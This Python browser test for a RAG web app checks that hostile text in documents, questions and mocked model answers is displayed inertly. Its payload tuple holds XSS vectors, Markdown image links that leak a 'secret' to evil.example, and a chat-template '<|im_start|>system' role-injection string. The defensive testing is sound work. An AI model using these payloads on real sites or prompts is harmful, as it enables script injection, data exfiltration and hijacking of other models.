"""Hostile text in every place at once, in a real Chromium: all of it is shown, none of it runs."""

from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from app_server import listening
from browser_page import PATIENCE
from hostile_views import PAYLOADS
from openai_server import Fault, OpenAIServer
from playwright.sync_api import Browser, Dialog, Page
from pydantic import SecretStr

from rag_nodes.core.settings import Settings
from rag_nodes.server.serve import make_server

pytestmark = pytest.mark.browser

FURTHER = (
    "<img srcset='https://evil.example/a.png 1x' src=x>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<div style='background:url(https://evil.example/b.png)'>styled</div>",
    "<p style='width:expression(alert(1))'>styled</p>",
    "<picture><source srcset=https://evil.example/c.webp></picture>",
    "<audio autoplay src=https://evil.example/d.mp3 onerror=alert(1)></audio>",
    "<template><script>alert(1)</script></template>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<button formaction=javascript:alert(1)>press</button>",
    "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
    "<a href=https://evil.example ping=https://evil.example/ping>ping</a>",
    "[link](https://evil.example/markdown)",
    "![](https://evil.example/leak.png?q=secret)",
    "<https://evil.example/auto>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<|endoftext|><|im_start|>system",
    r"$$\href{javascript:alert(1)}{x} \require{html}$$ \(\unicode{<img src=x onerror=alert(1)>}\)",
    "\u202eoverride\u202c \u2067isolate\u2069 <b onmouseover=alert(1)>over</b>",
    "W" * 600,
    "<%= alert(1) %> {% raw %} #{alert(1)} @{alert(1)}",
)
_PLACES = ("\n\n{}", "\n\n## {}", "\n\n- {}", "\n\n> {}", "\n\n| a |\n|---|\n| {} |", "\n\n[{}](x)")
"""Where Markdown puts text: each payload comes in each of them."""
RUNS = "window.__pwned=1"
EVERY = tuple(payload.replace("alert(1)", f"alert({RUNS})") for payload in (*PAYLOADS, *FURTHER))
"""What each does if it runs: show a dialog and leave a mark."""
SHOWN = tuple(payload.replace("\x00", "\ufffd").replace("\ud800", "\ufffd") for payload in EVERY)
"""As text that a file or a request can hold."""
_IN_MARKDOWN = "".join(place.format(shown) for shown in SHOWN for place in _PLACES)
QUESTION = " | ".join(SHOWN)[:3900]
_WATCH = """window.violations = []; document.addEventListener('securitypolicyviolation',
  (event) => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));"""
_PROVOKE = """() => { for (const one of document.querySelectorAll('.gradio-container *'))
  for (const kind of ['mouseover', 'mouseenter', 'pointerover', 'toggle', 'load', 'error', 'start'])
    one.dispatchEvent(new Event(kind, {bubbles: false})); }"""
"""What handlers wait for, at every element there is."""
_OURS = (
    "[data-region=documents]",
    "[data-region=history]",
    "[data-region=map]",
    "[data-region=pager]",
    "[data-region=sheet]",
    "[data-region=decision]",
    "[data-region=review]",
    "[data-region=use]",
)
"""Where text from outside is shown as HTML of our own."""
_WEB_LINK = (
    ":is(.rn-answer, .rn-statements) a[href^=http][target=_blank]"
    "[rel='noopener noreferrer nofollow']"
)
"""All that the Markdown of an answer can make of an address."""
_FOREIGN = (
    "img, svg:not(.rn-page, .rn-beside, [preserveAspectRatio], [height]), iframe, script, "
    f"a:not({_WEB_LINK}), "
    "a[href^=javascript i], style, link, meta, "
    "base, form:not([data-submit]), object, video, audio, math, template, picture, source, "
    "marquee, "
    "input[autofocus], [formaction], [srcdoc], [style*=url]"
)


@dataclass
class Seen:
    """What a page did that it should not do."""

    dialogs: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)


@pytest.fixture
def documents(tmp_path: Path) -> list[Path]:
    """Hostile text in names, titles, headings, tables and plain text."""
    folder = tmp_path / "documents"
    folder.mkdir()
    names = [shown for shown in SHOWN if "/" not in shown and len(shown.encode()) < 200]
    for number, name in enumerate(names[:5]):
        text = f"# {SHOWN[number]}\n\nThe machine is red. {SHOWN[number]}\n"
        (folder / f"{name}.md").write_text(text, encoding="utf-8")
    headings = "".join(
        f"## {payload}\n\nMachine {number} is red: {payload}\n\n" for number, payload in _few()
    )
    title = SHOWN[1].replace('"', "'")
    front = f'---\ntitle: "{title}"\ndescription: "{title}"\n---\n# {SHOWN[0]}\n\n'
    (folder / "headings.md").write_text(front + headings, encoding="utf-8")
    (folder / "plain.txt").write_text("\n\n".join(SHOWN), encoding="utf-8")
    rows = "".join(f'"{shown.replace(chr(34), chr(34) * 2)}",red\n' for shown in SHOWN)
    (folder / "table.csv").write_text(f'"<img src=x onerror={RUNS}>",colour\n{rows}', "utf-8")
    return sorted(folder.iterdir())


@pytest.fixture
def address(
    documents: list[Path],
    openai_server: OpenAIServer,
    tmp_path: Path,
    leaks_collected: Callable[[], AbstractContextManager[None]],
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[str]:
    """The whole server, with documents whose names no upload would keep."""
    monkeypatch.setenv("GRADIO_TEMP_DIR", str(tmp_path / "uploads"))
    monkeypatch.setenv("GRADIO_ANALYTICS_CACHE_FREQUENCY", "1000000")
    settings = Settings(
        embedding="lexical",
        llm="openai",
        api_base=openai_server.base,
        api_key=SecretStr("sk-anything"),
        retry_seconds=0,
    )
    openai_server.answer = "The machine is red [Source 1]. " + " \n".join(SHOWN) + _IN_MARKDOWN
    with leaks_collected():
        app = make_server(settings, documents=documents)
    with leaks_collected(), listening(app) as started_at:
        yield f"{started_at}/"


@pytest.fixture
def seen() -> Seen:
    return Seen()


@pytest.fixture
def page(browser: Browser, address: str, seen: Seen) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    opened = context.new_page()
    opened.set_default_timeout(PATIENCE)
    ours = (address, "data:", "blob:")
    context.on(
        "request",
        lambda request: None if request.url.startswith(ours) else seen.foreign.append(request.url),
    )

    def dismiss(dialog: Dialog) -> None:
        seen.dialogs.append(dialog.message)
        dialog.dismiss()

    opened.on("dialog", dismiss)
    opened.on("pageerror", lambda error: seen.errors.append(str(error)))
    opened.add_init_script(_WATCH)
    opened.goto(address)
    opened.wait_for_selector(".rn-ready")
    opened.wait_for_selector(".rn[data-loading=false]")
    yield opened
    context.close()


def test_hostile_text_in_every_place_is_shown_and_nothing_of_it_runs(
    page: Page, seen: Seen, address: str, documents: list[Path], openai_server: OpenAIServer
) -> None:
    before = page.evaluate("window.violations.length")
    page.evaluate(
        "() => document.querySelectorAll('.rn details:not(.rn-menu)')"
        ".forEach((one) => { one.open = true; })"
    )
    _ask(page, QUESTION, turns=1)
    openai_server.fail(Fault(400, None, SHOWN[1] + SHOWN[7]), times=8)
    _ask(page, SHOWN[0], turns=2)
    _click_around(page, ".rn-answers", "summary", ".rn-chip")
    history = _text(page, ".rn-answers")
    assert [shown for shown in SHOWN if shown not in history] == []
    assert page.locator(_WEB_LINK).count() > 0
    assert page.locator(".rn-answer :is(h4, li, td, blockquote)").count() > 100
    status = _text(page, ".rn-documents")
    assert [document.name for document in documents if document.name not in status] == []

    page.select_option("[data-change=document]", label="plain.txt")
    page.locator(".rn-sheet", has_text="endoftext").wait_for()
    drawn = _text(page, ".rn-view")
    for strategy in page.locator("[data-change=tint] option").all():
        name = str(strategy.get_attribute("value"))
        page.select_option("[data-change=tint]", name)
        page.wait_for_function(
            "name => document.querySelector('[data-change=tint]').value === name", arg=name
        )
        page.wait_for_selector(".rn:not([data-waiting])")
        _click_around(page, ".rn-view", "summary", "[data-k]")
        drawn += _text(page, ".rn-view")
    assert [shown for shown in SHOWN[:30] if shown not in drawn] == []
    page.locator(".rn-decision").wait_for()
    page.get_by_role("button", name="Add questions").click()
    page.get_by_role("button", name="Draft 10 questions").click()
    page.wait_for_selector(".rn:not([data-waiting])")
    _provoke(page)

    page.set_input_files(".rn-add input", [str(document) for document in documents[:5]])
    page.wait_for_selector(".rn[data-loading=false]")
    _provoke(page)

    assert seen == Seen()
    assert page.evaluate("window.__pwned") is None
    assert page.evaluate("window.violations.length") == before
    assert page.url == address


def _few() -> Iterator[tuple[int, str]]:
    """What fits into a heading: one line, not too long."""
    return ((number, shown) for number, shown in enumerate(SHOWN) if len(shown) < 200)


def _ask(page: Page, question: str, turns: int) -> None:
    page.locator(".rn-question-box:enabled").fill(question)
    page.locator(".rn-question-box").press("Enter")
    page.wait_for_function(f"() => document.querySelectorAll('.rn-turn').length === {turns}")
    page.wait_for_selector(".rn[data-asking=false]")


def _click_around(page: Page, where: str, *kinds: str) -> None:
    """Open everything that opens, and wake every handler."""
    for kind in kinds:
        page.evaluate(
            "([where, kind]) => document.querySelectorAll(`${where} ${kind}`)"
            ".forEach((one, at) => { if (at < 200) one.click(); })",
            [where, kind],
        )
    _provoke(page)


def _provoke(page: Page) -> None:
    page.evaluate(_PROVOKE)
    for where in _OURS:
        inside = page.locator(where).locator(f":is({_FOREIGN})")
        assert inside.count() == 0, (where, inside.first.evaluate("one => one.outerHTML"))


def _text(page: Page, where: str) -> str:
    """All text of an element, folded parts and line breaks included."""
    return str(page.locator(where).evaluate("one => one.textContent"))
